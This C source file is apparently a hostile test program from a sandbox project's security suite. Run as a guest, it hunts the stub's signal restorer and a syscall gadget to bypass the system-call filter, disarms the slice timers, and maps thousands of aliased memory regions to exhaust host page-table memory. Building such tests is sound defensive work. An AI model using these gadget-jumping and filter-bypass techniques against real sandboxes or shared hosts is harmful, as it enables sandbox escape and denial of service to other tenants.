/* hostmem_attack MODE ...: attacks on host memory from a guest user program (the hostile
 * suite's host-memory cases, tests/tests/hostile_host_memory.rs; docs/SECURITY.md, "Host
 * memory per tenant").
 *
 *   dense MEM_BYTES PROCS HOLD_MS   Each of PROCS processes (the first one and PROCS-1 forked
 *                                   children) calls the user stub's own `syscall` instruction
 *                                   (the documented weakness: a program can jump into stub
 *                                   code with registers of its choice) to map the same 64 MiB
 *                                   of the user pool again and again at consecutive addresses
 *                                   and reads one byte per 2 MiB of every alias, until the
 *                                   host refuses (or 4000 aliases); holds for HOLD_MS, then
 *                                   touches 4 MiB of fresh heap (the guest kernel's mappings
 *                                   must still work) and reports.
 *   sparse MEM_BYTES PROCS HOLD_MS STRIDE
 *                                   The same with one 4 KiB mapping every STRIDE bytes (2 MiB:
 *                                   one host PTE page each; 1 GiB: a PMD page too), up to
 *                                   65536 mappings.
 *   int80                           `int 0x80` (kills the sandbox with SIGSYS).
 *   spin                            Spins forever (for --cpu-seconds).
 *
 * Output lines: "attack: pid P mapped N aliases (errno E)", "attack: pid P heap ok SUM",
 * "attack: done K/PROCS". Exit 0 when every process reported. */
#include <errno.h>
#include <sys/syscall.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* pvmux_hypercalls::user::USER_CTX_BASE, the per-slot areas one GiB above it. */
#define USER_CTX_BASE 0x480000000000ULL
#define USER_AREAS_BASE (USER_CTX_BASE + 0x40000000ULL)
#define AREA_SIZE (128 * 1024ULL)
#define AREA_ALTSTACK (40 * 1024ULL)
#define ALTSTACK_SIZE (AREA_SIZE - AREA_ALTSTACK)
#define MAX_SLOTS 64
#define GUEST_MEM_FD 3
/* Where the aliases go: high in the user window, away from everything the program uses. */
#define ATTACK_BASE 0x100000000000ULL
#define ALIAS (64ULL << 20)
/* The aliases stay below this (the guest kernel puts the program's stack and mappings near
 * the top of the user window, which ends at 0x400000000000). */
#define ATTACK_END 0x300000000000ULL

/* Finds the stub's signal restorer (mov eax, 15; syscall) through the rt_sigframes the host
 * kernel left on the stub's signal stacks: pretcode, then the ucontext with uc_stack. */
static uint64_t find_restorer(void) {
    uint32_t slots = *(volatile uint32_t *)(USER_CTX_BASE + 12);
    if (slots > MAX_SLOTS)
        slots = MAX_SLOTS;
    static const unsigned char code[7] = {0xb8, 0x0f, 0, 0, 0, 0x0f, 0x05};
    for (uint32_t i = 0; i < slots; i++) {
        uint64_t ss_sp = USER_AREAS_BASE + i * AREA_SIZE + AREA_ALTSTACK;
        volatile uint64_t *w = (volatile uint64_t *)ss_sp;
        for (uint64_t j = 3; j < ALTSTACK_SIZE / 8 - 2; j++) {
            if (w[j] != ss_sp || w[j + 2] != ALTSTACK_SIZE)
                continue;
            uint64_t cand = w[j - 3];
            if (cand < USER_CTX_BASE || cand >= 0x800000000000ULL)
                continue;
            if (memcmp((const void *)cand, code, sizeof code) == 0)
                return cand;
        }
    }
    return 0;
}

/* `syscall; pop rbp; ret` in the stub's code after its restorer. */
static uint64_t find_gadget(uint64_t restorer) {
    for (uint64_t a = restorer; a < restorer + 16 * 1024; a++) {
        const volatile unsigned char *b = (const volatile unsigned char *)a;
        if (b[0] == 0x0f && b[1] == 0x05 && b[2] == 0x5d && b[3] == 0xc3)
            return a;
    }
    return 0;
}

static uint64_t gadget;

/* The system call n(a..f) made by the stub's own `syscall` instruction. */
static long stub_call(long n, uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e,
                      uint64_t f) {
    register long rax __asm__("rax") = n;
    register uint64_t rdi __asm__("rdi") = a, rsi __asm__("rsi") = b, rdx __asm__("rdx") = c;
    register uint64_t r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
    /* Below the red zone first: the pushes must not overwrite this function's locals. */
    __asm__ volatile("sub $128, %%rsp\n\t"
                     "lea 2f(%%rip), %%r11\n\t"
                     "push %%r11\n\t"
                     "push %%rbp\n\t"
                     "jmp *%[g]\n\t"
                     "2:\n\t"
                     "add $128, %%rsp"
                     : "+r"(rax)
                     : [g] "r"(gadget), "r"(rdi), "r"(rsi), "r"(rdx), "r"(r10), "r"(r8),
                       "r"(r9)
                     : "rcx", "r11", "memory");
    return rax;
}

/* Disarms the sandbox's slice timers (timer_settime from stub code, which the filter allows:
 * a documented weakness). The user stub treats any signal that arrives while user code is in
 * stub code as its own fault and ends the sandbox, and the attack spends much of its time in
 * stub code; without the slice timer, the guest kernel's 2 s hand-off timeout still applies,
 * so the attack makes a guest system call between mappings. */
static void disarm_slice_timers(void) {
    static const struct {
        long interval[2], value[2];
    } zero;
    uint32_t slots = *(volatile uint32_t *)(USER_CTX_BASE + 12);
    /* Faulted in by user code first: the stub's own system call gets EFAULT for a page not
     * mapped in the sandbox yet (a fork child's pages are mapped at their first fault). */
    (void)*(volatile const long *)zero.value;
    for (long id = 0; id < slots && id < MAX_SLOTS; id++)
        stub_call(223, id, 0, (uint64_t)&zero, 0, 0, 0);
}

/* mmap from stub code, after a guest system call (which may re-arm the slice timer, so the
 * timers are disarmed again right after it). */
static long stub_mmap(uint64_t addr, uint64_t len, uint64_t off) {
    syscall(SYS_getppid);
    disarm_slice_timers();
    return stub_call(9, addr, len, 1 /* PROT_READ */, 0x11 /* MAP_SHARED|MAP_FIXED */,
                     GUEST_MEM_FD, off);
}

static void sleep_ms(long ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

/* One process's attack; returns 0 if it reported. */
static int attack(int sparse, uint64_t mem, long hold_ms, uint64_t stride) {
    uint64_t restorer = find_restorer();
    gadget = restorer ? find_gadget(restorer) : 0;
    if (!gadget) {
        printf("attack: pid %d found no stub gadget\n", getpid());
        return 1;
    }
    uint64_t off = mem - ALIAS; /* the top 64 MiB of guest memory: in the user pool */
    uint64_t n = 0, max = sparse ? 65536 : 4000;
    long err = 0;
    volatile unsigned long sum = 0;
    for (; n < max; n++) {
        uint64_t addr = sparse ? ATTACK_BASE + n * stride : ATTACK_BASE + n * ALIAS;
        if (addr + ALIAS > ATTACK_END)
            break;
        long r = stub_mmap(addr, sparse ? 4096 : ALIAS, sparse ? off + (n % 16384) * 4096 : off);
        if (r < 0 && r > -4096) {
            err = -r;
            break;
        }
        if (sparse) {
            sum += *(volatile unsigned char *)addr;
        } else {
            for (uint64_t b = 0; b < ALIAS; b += 2 << 20)
                sum += *(volatile unsigned char *)(addr + b);
        }
    }
    printf("attack: pid %d mapped %llu aliases (errno %ld)\n", getpid(), (unsigned long long)n,
           err);
    fflush(stdout);
    sleep_ms(hold_ms);
    /* The guest kernel's own mappings go on working (the stub evicts when the host says no). */
    size_t heap = 4 << 20;
    unsigned char *p = malloc(heap);
    if (!p) {
        printf("attack: pid %d malloc failed\n", getpid());
        return 1;
    }
    memset(p, 0x5a, heap);
    unsigned long s = 0;
    for (size_t i = 0; i < heap; i += 4096)
        s += p[i];
    printf("attack: pid %d heap ok %lu\n", getpid(), s);
    fflush(stdout);
    free(p);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: hostmem_attack dense|sparse MEM PROCS HOLD_MS [STRIDE] | int80 | spin\n");
        return 2;
    }
    if (strcmp(argv[1], "int80") == 0) {
        sleep_ms(500); /* let the test sample every sandbox first */
        printf("int80: now\n");
        fflush(stdout);
        __asm__ volatile("int $0x80" ::"a"(20) : "memory");
        printf("int80: survived\n");
        return 1;
    }
    if (strcmp(argv[1], "spin") == 0) {
        printf("spin: now\n");
        fflush(stdout);
        for (volatile unsigned long i = 0;; i++)
            ;
    }
    int sparse = strcmp(argv[1], "sparse") == 0;
    if ((!sparse && strcmp(argv[1], "dense") != 0) || argc < 5 + sparse) {
        fprintf(stderr, "bad arguments\n");
        return 2;
    }
    uint64_t mem = strtoull(argv[2], NULL, 0);
    int procs = atoi(argv[3]);
    long hold_ms = atol(argv[4]);
    uint64_t stride = sparse ? strtoull(argv[5], NULL, 0) : 0;
    int ok = 0;
    for (int i = 1; i < procs; i++) {
        pid_t pid = fork();
        if (pid == 0)
            _exit(attack(sparse, mem, hold_ms, stride));
        if (pid < 0)
            printf("attack: fork failed: %s\n", strerror(errno));
    }
    ok += attack(sparse, mem, hold_ms, stride) == 0;
    int st;
    while (wait(&st) > 0)
        ok += WIFEXITED(st) && WEXITSTATUS(st) == 0;
    printf("attack: done %d/%d\n", ok, procs);
    return ok == procs ? 0 : 1;
}
